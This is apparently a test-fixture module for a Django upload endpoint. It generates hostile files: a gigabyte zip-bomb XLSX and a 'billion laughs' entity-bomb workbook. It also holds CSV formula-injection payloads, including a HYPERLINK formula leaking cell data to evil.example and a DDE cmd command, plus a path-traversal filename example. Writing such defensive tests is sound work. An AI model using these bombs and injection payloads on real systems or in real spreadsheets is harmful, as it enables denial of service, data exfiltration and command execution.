"""A corpus of hostile uploads, made at test time (no large binaries in the repository), and a
way to post a file the way a browser would (its body streamed, its file name sent unchanged).

Django's test client keeps the whole request body in memory and strips directories from file
names before sending them, so neither a 200 MB upload nor a file named ``../../etc/passwd.csv``
could be tried through it; ``post_file`` builds the multipart body as a stream instead.
"""

from __future__ import annotations

import io
import zipfile

from django.test import Client

GIGABYTE = 1 << 30
BOUNDARY = "----hostile-corpus-boundary"

XLSX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b"</Types>"
)


def zip_bomb_xlsx(unpacked: int = GIGABYTE) -> bytes:
    """An XLSX whose one sheet is ``unpacked`` bytes of the same row, deflated to a few MB."""
    row = b'<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAA</t></is></c></row>'
    chunk = row * (1 << 14)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", XLSX_TYPES)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            written = 0
            while written < unpacked:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def _workbook(rows) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>\n"
)


def entity_bomb_xlsx() -> bytes:
    """A real workbook whose shared strings (and sheet) declare the "billion laughs" entities."""
    source = zipfile.ZipFile(io.BytesIO(_workbook([["First name", "Last name"], ["Anna", "Ivanova"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[-1] if data.startswith(b"<?xml") else data
                data = BILLION_LAUGHS + body.replace(b"Anna", b"&lol9;", 1)
            archive.writestr(info, data)
        archive.writestr(
            "xl/sharedStrings.xml",
            BILLION_LAUGHS + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>',
        )
    return buffer.getvalue()


def junk(size: int = 64 * 1024) -> bytes:
    """Binary noise (deterministic), what a damaged or mislabelled file looks like."""
    import random

    return random.Random(7).randbytes(size)  # noqa: S311 (test data, not a secret)


UNDECODABLE = bytes(range(0x80, 0x100)) * 40  # no code page makes letters of all of this

ENCODED_ROSTERS = {
    # (file name, bytes, a name that must come out right)
    "cp1251": ("bg.csv", "Име;Фамилия;Училище\nГеорги;Димитров;СУ 1\n".encode("cp1251"), "Георги"),
    "iso-8859-2": ("pl.csv", "Imię;Nazwisko;Szkoła\nŁukasz;Wójcik;SP 1\n".encode("iso-8859-2"), "Łukasz"),
    "utf-16": ("w.csv", "First name\tLast name\tSchool\nАнна\tИванова\tСУ 1\n".encode("utf-16"), "Анна"),
}

CONTROL_CHARACTERS = b"First name,Last name,School\nAn\x08na,Iva\x1bnova\x07,SU\x0b 1\n"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def formula_csv() -> bytes:
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["First name", "Last name", "School"])
    writer.writerows([value, "Ivanova", "SU 1"] for value in FORMULAS)
    return buffer.getvalue().encode()


class _Stream:
    """A multipart/form-data body produced piece by piece (a 200 MB file never sits in memory)."""

    def __init__(self, fields: dict, field: str, filename: str, parts):
        head = "".join(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in fields.items()
        )
        head += (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        )
        self.pieces = [head.encode(), *parts, f"\r\n--{BOUNDARY}--\r\n".encode()]
        self.length = sum(len(piece) if isinstance(piece, bytes) else piece.length for piece in self.pieces)
        self.buffer = b""
        self.iterator = self._chunks()

    def _chunks(self):
        for piece in self.pieces:
            if isinstance(piece, bytes):
                yield piece
            else:
                yield from piece.chunks()

    def read(self, size: int = -1) -> bytes:
        while size < 0 or len(self.buffer) < size:
            chunk = next(self.iterator, None)
            if chunk is None:
                break
            self.buffer += chunk
        if size < 0:
            size = len(self.buffer)
        data, self.buffer = self.buffer[:size], self.buffer[size:]
        return data

    def readline(self, size: int = -1) -> bytes:  # Django reads the body with read(); here for completeness
        return self.read(size)


class Repeated:
    """``length`` bytes made of ``line`` repeated: a huge file described in a few bytes."""

    def __init__(self, header: bytes, line: bytes, length: int):
        self.header, self.line, self.length = header, line, length

    def chunks(self):
        block = self.line * max(1, (64 * 1024) // len(self.line))
        yield self.header
        left = self.length - len(self.header)
        while left > 0:
            yield block[:left]
            left -= len(block)


def post_file(client: Client, path: str, filename: str, content, field: str = "file", **fields):
    """POST ``content`` (bytes or ``Repeated``) as the file ``filename``, name sent unchanged."""
    stream = _Stream(fields, field, filename, [content])
    return client.generic(
        "POST",
        path,
        **{
            "wsgi.input": stream,
            "CONTENT_LENGTH": str(stream.length),
            "CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}",
        },
    )
